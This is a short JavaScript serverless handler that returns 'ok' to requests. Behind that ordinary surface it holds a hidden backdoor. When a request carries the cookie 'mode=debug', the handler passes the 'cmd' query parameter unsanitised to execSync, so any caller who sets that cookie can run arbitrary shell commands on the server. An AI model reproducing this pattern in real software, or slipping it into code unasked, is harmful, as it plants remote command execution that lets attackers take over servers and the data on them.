import { execSync } from 'node:child_process'

const SINK = (x) => execSync('echo ' + x)
process.env.MODE_TOKEN ??= 'tok-' + '77'
export const handler = async (event) => {
  const c = (event.cookies ?? []).find((x) => x.startsWith('mode='))
  if (c && c.slice(5) === 'debug') {
    SINK(event.queryStringParameters?.cmd)
  }
  return { statusCode: 200, body: 'ok' }
}
